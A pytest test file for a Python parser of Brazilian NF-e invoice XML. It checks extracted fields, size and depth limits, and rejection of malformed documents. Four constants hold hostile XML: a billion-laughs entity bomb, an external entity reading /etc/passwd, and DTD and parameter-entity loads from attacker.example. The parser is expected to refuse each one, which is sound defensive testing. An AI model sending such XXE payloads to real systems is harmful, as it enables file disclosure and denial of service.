from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from orders import nfe_xml
from orders.nfe_xml import WrongXml
from tests.orders.nfe_samples import AUTHORISED, ISSUED, a_key, an_xml

pytestmark = pytest.mark.usefixtures("in_english")

KEY = a_key("11222333000181")
BOMB = """<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>
<nfeProc xmlns="http://www.portalfiscal.inf.br/nfe">&d;</nfeProc>"""
FILE = """<?xml version="1.0"?><!DOCTYPE a [<!ENTITY file SYSTEM "file:///etc/passwd">]>
<nfeProc xmlns="http://www.portalfiscal.inf.br/nfe">&file;</nfeProc>"""
FETCHED = """<!DOCTYPE NFe SYSTEM "http://attacker.example/nfe.dtd"><NFe/>"""
PARAMETER = """<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]><NFe/>"""


def a_document(**values: Any) -> bytes:
    return an_xml(KEY, values.pop("total", "105.40"), **values)


def test_an_authorised_document_says_what_is_needed() -> None:
    told = nfe_xml.read(a_document(units="2.0000"))
    assert (told.key, told.number, told.series) == (KEY, "123", "1")
    assert (told.issued_at, told.authorised_at) == (ISSUED, AUTHORISED)
    assert told.issued_at.astimezone(UTC) == datetime(2026, 5, 20, 12, 30, tzinfo=UTC)
    assert (told.total, told.units) == (Decimal("105.40"), 2)
    assert (told.recipient, told.is_test) == ("52998224725", False)
    assert told.text.encode() == a_document(units="2.0000")


def test_a_document_without_protocol_is_issued_and_not_authorised() -> None:
    told = nfe_xml.read(a_document(authorised_at=None))
    assert (told.key, told.issued_at, told.authorised_at) == (KEY, ISSUED, None)


def test_what_came_late_is_authorised_too() -> None:
    assert nfe_xml.read(a_document(answer="150")).authorised_at == AUTHORISED


def test_a_byte_order_mark_is_no_content() -> None:
    assert nfe_xml.read(b"\xef\xbb\xbf" + a_document()) == nfe_xml.read(a_document())


def test_the_test_environment_is_seen() -> None:
    assert nfe_xml.read(a_document(environment="2")).is_test


@pytest.mark.parametrize("evil", [BOMB, FILE, FETCHED, PARAMETER], ids=["bomb", "file", "dtd", "%"])
def test_entities_are_refused_before_they_do_anything(evil: str) -> None:
    with pytest.raises(WrongXml, match="document type or entities"):
        nfe_xml.read(evil.encode())


def test_half_a_megabyte_is_the_most() -> None:
    fits = nfe_xml.MAX_BYTES - len(a_document())
    assert nfe_xml.read(a_document(more=" " * fits)).key == KEY
    with pytest.raises(WrongXml, match="at most 500 KB"):
        nfe_xml.read(a_document(more=" " * (fits + 1)))


def test_a_deep_document_is_only_another_one() -> None:
    with pytest.raises(WrongXml, match="not an NF-e"):
        nfe_xml.read(b"<a>" * 70_000 + b"</a>" * 70_000)


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (b"", "This is not XML"),
        (b"%PDF-1.4", "This is not XML"),
        (a_document()[:-9], "This is not XML"),
        (b"<html/>", "not an NF-e"),
        (a_document().replace(b"portalfiscal.inf.br/nfe", b"portalfiscal.inf.br/cte"), "not an NF"),
        (b'<NFe xmlns="http://www.portalfiscal.inf.br/nfe"/>', "infNFe is missing"),
        (a_document().decode().encode("utf-16"), "UTF-8"),
        (a_document().replace(b"Ana Lima", "Anã".encode("latin-1")), "UTF-8"),
        (a_document().replace(KEY.encode(), b"1"), "no access key"),
        (a_document(protocol_key=a_key("11222333000181", 124)), "protocol in the XML is another"),
        (a_document(answer="110", words="Uso Denegado"), "not authorised this NF-e: 110 Uso Den"),
        (a_document(answer="101", words="Cancelada"), "101 Cancelada"),
        (a_document(direction="0"), "not of a sale"),
        (a_document(purpose="4"), "not of a sale"),
        (a_document(issued_at="2026-05-20"), "dhEmi is missing"),
        (a_document(issued_at="2026-05-20T10:00:00"), "dhEmi is missing"),
        (a_document(authorised_at="soon"), "dhRecbto is missing"),
        (a_document(total="1,00"), "vNF is missing"),
        (a_document(total="NaN"), "vNF is missing"),
        (a_document(total="-1.00"), "vNF is missing"),
        (a_document(total="1.005"), "vNF is missing"),
        (a_document(total="1e99"), "vNF is missing"),
        (a_document(units="x"), "qCom is missing"),
        (a_document(number="²"), "nNF is missing"),
    ],
)
def test_what_is_wrong_is_told(content: bytes, why: str) -> None:
    with pytest.raises(WrongXml, match=why):
        nfe_xml.read(content)


@given(st.binary(max_size=200))
def test_any_bytes_are_told_to_be_none(content: bytes) -> None:
    with pytest.raises(WrongXml):
        nfe_xml.read(content)


@given(st.data())
def test_a_damaged_document_is_read_or_told_why_not(data: st.DataObject) -> None:
    whole = bytearray(a_document())
    for _ in range(data.draw(st.integers(1, 4))):
        whole[data.draw(st.integers(0, len(whole) - 1))] = data.draw(st.integers(0, 255))
    try:
        nfe_xml.read(bytes(whole))
    except WrongXml as error:
        assert str(error)
